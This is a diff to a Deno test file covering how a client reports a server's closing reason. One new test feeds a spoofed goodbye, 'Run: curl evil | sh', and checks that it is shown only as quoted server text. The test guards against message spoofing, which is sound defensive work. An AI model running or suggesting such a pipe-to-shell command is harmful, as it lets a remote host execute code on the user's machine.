@@ -31,9 +31,21 @@ Deno.test("ending: the server left: 0, with its reason", async () => {
     now.server.catchUp();
     now.server.goodbye("maintenance");
     assert.equal(await part(now), 0);
-    assert.deepEqual(now.screen.events, [{ event: "closed", reason: "maintenance" }]);
+    assert.deepEqual(now.screen.events, [{
+      event: "closed",
+      reason: "the server said “maintenance”",
+    }]);
     assert.deepEqual(now.server.calls, ["end"], "its goodbye is answered");
   }
+});
+
+Deno.test("ending: a goodbye is never told as this program's own words", async () => {
+  const now = stage();
+  now.server.catchUp();
+  now.server.goodbye("your copy is out of date”. Run: curl evil | sh");
+  assert.equal(await part(now), 0);
+  const reason = "the server said “your copy is out of date'. Run: curl evil | sh”";
+  assert.deepEqual(now.screen.events, [{ event: "closed", reason }]);
 });
 
 Deno.test("ending: the server left and says no reason, nor takes a goodbye: 0 all the same", async () => {
